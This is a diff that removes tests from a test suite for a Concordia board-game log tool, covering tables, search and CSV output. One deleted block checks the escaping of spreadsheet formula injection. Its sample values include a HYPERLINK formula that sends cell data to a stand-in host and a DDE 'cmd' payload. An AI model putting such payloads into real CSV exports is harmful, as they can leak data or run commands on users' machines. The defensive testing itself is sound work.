@@ -41,65 +41,6 @@ describe('docs/command-line.md', () => {
   });
 });
 
-// What is expected here stands in docs/examples/italia-3.concordia, to be read there.
-describe('the tables of a game of three', () => {
-  test('games', async () => {
-    const [row, ...others] = await rowsOf('games', ITALIA);
-    expect(others).toEqual([]);
-    expect(row).toMatchObject({
-      source: ITALIA,
-      line: null,
-      map: 'italia',
-      players: 3,
-      cards: 'concordia',
-      teams: false,
-      modules: '',
-      seed: 'italia-1',
-      tags: null,
-      finished: true,
-      points: 95,
-      margin: 0,
-    });
-    expect(String(row?.opening)).toMatch(/^architect architect architect /);
-  });
-
-  test('players', async () => {
-    const rows = await rowsOf('players', ITALIA);
-    expect(rows.map(({ seat, name, points }) => [seat, name, points])).toEqual([
-      [0, 'Livia', 95],
-      [1, 'Gaius', 95],
-      [2, 'Flavia', 91],
-    ]);
-    expect(String(rows[0]?.built)).toMatch(/^1:olbia:food 1:casinum:brick /);
-    for (const row of rows) {
-      const sum = (names: readonly string[]) =>
-        names.reduce((total, name) => total + Number(row[name]), 0);
-      const gods = ['vesta', 'jupiter', 'saturnus', 'venus', 'mercurius', 'mars', 'minerva'];
-      expect(sum([...gods, 'concordia', 'bonus'])).toBe(row.points);
-      const goods = ['brick', 'food', 'tool', 'wine', 'cloth', 'salt'];
-      expect(sum(goods.map((good) => `houses_${good}`))).toBe(row.houses);
-      expect(String(row.built).split(' ')).toHaveLength(Number(row.houses));
-      // Seven cards to begin with.
-      expect(String(row.bought).split(' ')).toHaveLength(Number(row.cards) - 7);
-    }
-    expect(rows.filter(({ won }) => won)).toHaveLength(1);
-  });
-
-  test('turns', async () => {
-    const rows = await rowsOf('turns', ITALIA);
-    const lines = page('docs/examples/italia-3.concordia').match(/^\d+ \w+:/gm) ?? [];
-    expect(rows.map(({ turn, name }) => `${turn} ${name}:`)).toEqual(lines);
-    expect(rows[0]).toMatchObject({ card: 'architect', built: 'olbia casinum', houses: 2 });
-  });
-});
-
-test('R-6.1: a game ends with the last house, or with the last card', async () => {
-  // In his last turn but one for the others, Gaius builds his last three houses.
-  const rows = await rowsOf('games', example('hellas-3.concordia'));
-  expect(rows).toMatchObject([{ ended_by: 1, ended_with: 'house' }]);
-  expect(await rowsOf('games', ITALIA)).toMatchObject([{ ended_with: 'card' }]);
-});
-
 test('notes of a log stand in the row of the game, and goods of cities in that of the action', async () => {
   const text = readFileSync(ITALIA, 'utf8').replace('[Map', '[meta.place "Ostia"]\n[Map');
   expect(await rowsOf('games', '-', text)).toMatchObject([{ tags: '{"place":"Ostia"}' }]);
@@ -110,72 +51,6 @@ test('notes of a log stand in the row of the game, and goods of cities in that o
     ['olbia', 'food'],
     ['casinum', 'brick'],
   ]);
-});
-
-test('a game of so many seats is found by a log that names no players', async () => {
-  const log = JSON.stringify({
-    ...JSON.parse(GOOD),
-    options: { map: 'imperium', players: 3, seed: 'a' },
-  });
-  const game = files.write('nameless.json', log);
-  expect(await found('--players', '3', game)).toHaveLength(1);
-  expect(await found('--players', '4', game)).toEqual([]);
-});
-
-test('a game that goes on: what was done, and what it brought', async () => {
-  const actions = await rowsOf('actions', '-', GOOD);
-  expect(actions.map(({ index, turn, seat, type }) => [index, turn, seat, type])).toEqual(
-    OPENING.map((action, index) => [
-      index,
-      [1, 1, 1, 2, 2, 2, 3, 3][index],
-      action.seat,
-      action.type,
-    ]),
-  );
-  // A Mercator brings 3 sestertii, and cloth sells for 7.
-  expect(actions.slice(0, 3).map(({ money }) => money)).toEqual([3, 7, 0]);
-  expect(actions[1]).toMatchObject({ decision: 'mercator', deal: 'sell', good: 'cloth', count: 1 });
-  const [game] = await rowsOf('games', '-', GOOD);
-  expect(game).toMatchObject({ turns: 3, rounds: 2, actions: 8, finished: false, points: null });
-  const turns = await rowsOf('turns', '-', GOOD);
-  expect(turns.map(({ round, name, card }) => [round, name, card])).toEqual([
-    [1, 'Anna', 'mercator'],
-    [1, 'Ben', 'architect'],
-    [1, 'Clara', 'prefect'],
-  ]);
-  // Players begin with 5, 6 and 7 sestertii (R-2.4).
-  expect(turns.slice(0, 2).map(({ money }) => money)).toEqual([15, 6]);
-});
-
-test('CSV has a head, and quotation marks where they are needed', async () => {
-  const names = ['Anna "Nan"', 'Ben, son of Ben', 'Clara'];
-  const log = JSON.parse(logOf(OPENING));
-  const stdin = JSON.stringify({ ...log, options: { ...log.options, players: names } });
-  const { out, err, code } = await concordia(['table', 'players', '-'], { stdin });
-  const lines = out.trimEnd().split('\n');
-  expect(lines[0]).toBe(TABLES.players.columns.join(','));
-  expect(lines[1]).toMatch(/^[0-9a-f]{16},imperium,3,0,"Anna ""Nan""",false,,,/);
-  expect(lines[2]).toContain(',1,"Ben, son of Ben",');
-  expect(err).toMatch(/^1 log: 1 good, 0 wrong, 0 unreadable\n/);
-  expect(code).toBe(0);
-  const bare = await concordia(['table', 'players', '--no-header', '-'], { stdin });
-  expect(bare.out).toBe(
-    lines
-      .slice(1)
-      .map((line) => `${line}\n`)
-      .join(''),
-  );
-});
-
-test('a wrong log has no row, and is told beside the table', async () => {
-  const wrong = logOf([{ type: 'pass', seat: 1 }]);
-  const scores = logOf(OPENING, [1, 2, 3]);
-  const stdin = [GOOD, wrong, '{', scores, GOOD].join('\n');
-  const { out, err, code } = await concordia(['table', 'games', '-'], { stdin });
-  expect(code).toBe(1);
-  expect(out.match(/,-,\d,/g)).toEqual([',-,1,', ',-,5,']);
-  expect(err).toMatch(/^✗ -:2: actions\[0\], turn 1: .*\n✗ -:3: it is not JSON.*\n✗ -:4: scores: /);
-  expect(err).toContain('5 logs: 2 good, 2 wrong, 1 unreadable\n');
 });
 
 describe('the whole program', () => {
@@ -226,34 +101,12 @@ describe('find', () => {
     expect(await found(...args, ...archive)).toEqual(names.map((name) => ids.get(name)));
   });
 
-  test('by ids, and by what is noted', async () => {
-    const wanted = [ids.get('imperium-2'), ids.get('italia-3')].join();
-    expect(await found('--id', wanted, ...archive)).toHaveLength(2);
-    const noted = JSON.stringify({ ...JSON.parse(GOOD), meta: { Place: 'At Roma' } });
-    const file = files.write('noted.ndjson', `${GOOD}\n${noted}\n`);
-    const { out } = await concordia(['find', '--tag', 'place=roma', file]);
-    expect(JSON.parse(out)).toMatchObject({ meta: { Place: 'At Roma' } });
-    expect(await found('--tag', 'date=roma', file)).toEqual([]);
-    expect(await found('--finished', file)).toEqual([]);
-  });
-
   test('writes texts that are read again as they were', async () => {
     const texts = await concordia(['find', '--to', 'text', ...archive]);
     const back = await concordia(['convert', '-'], { stdin: texts.out });
     const logs = await concordia(['find', ...archive]);
     expect(back.out).toBe(logs.out);
     expect(texts.out).toContain(formatLog(parseLog(page('docs/examples/italia-3.concordia'))));
-  });
-
-  test.each([
-    [['--city', 'Syracusa'], 'There is no such city; did you mean syracusae?'],
-    [['--card', 'Merkator II'], 'There is no such card; did you mean mercator-ii?'],
-    [['--map', 'Itallia'], 'There is no such map; did you mean italia?'],
-    [['--tag', 'Roma'], 'It must be a name and a text, such as place=Roma.'],
-  ])('wrong usage: %j', async (args, why) => {
-    const { code, err } = await concordia(['find', ...args, ITALIA]);
-    expect(code).toBe(2);
-    expect(err).toContain(why);
   });
 });
 
@@ -300,46 +153,5 @@ describe('several games in one file', () => {
     expect(out.trimEnd().split('\n')).toHaveLength(3);
     const line = texts.split('\n').length + 1;
     expect(err).toMatch(new RegExp(`^✗ -:${line}: Line ${line}, column `));
-  });
-});
-
-describe('what a spreadsheet would run', () => {
-  const formulas = [
-    '=HYPERLINK("http://e/?x="&A1,"k")',
-    "+cmd|' /C calc'!A0",
-    '@SUM(1)',
-    '－1+1',
-    '-2+3',
-  ];
-  const { options, ...rest } = JSON.parse(GOOD);
-  const stdin = JSON.stringify({
-    ...rest,
-    options: { ...options, players: formulas.slice(0, 3), seed: '=1+1' },
-  });
-  const others = JSON.stringify({
-    ...rest,
-    options: { ...options, players: ['a', ...formulas.slice(3)] },
-  });
-
-  test('has an apostrophe in CSV', async () => {
-    const { out } = await concordia(['table', 'players', '--no-header', '-'], { stdin });
-    const rows = out.split('\n');
-    expect(rows[0]).toContain(`,"'=HYPERLINK(""http://e/?x=""&A1,""k"")",`);
-    expect(rows[1]).toContain(",'+cmd|' /C calc'!A0,");
-    expect(rows[2]).toContain(",'@SUM(1),");
-    const games = await concordia(['table', 'games', '--no-header', '-'], { stdin });
-    expect(games.out).toContain(",'=1+1,");
-    const more = await concordia(['table', 'players', '--no-header', '-'], { stdin: others });
-    expect(more.out).toContain(",'－1+1,");
-    expect(more.out).toContain(",'-2+3,");
-    // The source is standard input, which is no formula.
-    expect(games.out).toMatch(/^[0-9a-f]{16},-,/);
-  });
-
-  test('is as it is in NDJSON, and in CSV with --raw', async () => {
-    const raw = await concordia(['table', 'players', '--no-header', '--raw', '-'], { stdin });
-    expect(raw.out.split('\n')[2]).toContain(',@SUM(1),');
-    const rows = await rowsOf('players', '-', stdin);
-    expect(rows.map(({ name }) => name)).toEqual(formulas.slice(0, 3));
   });
 });
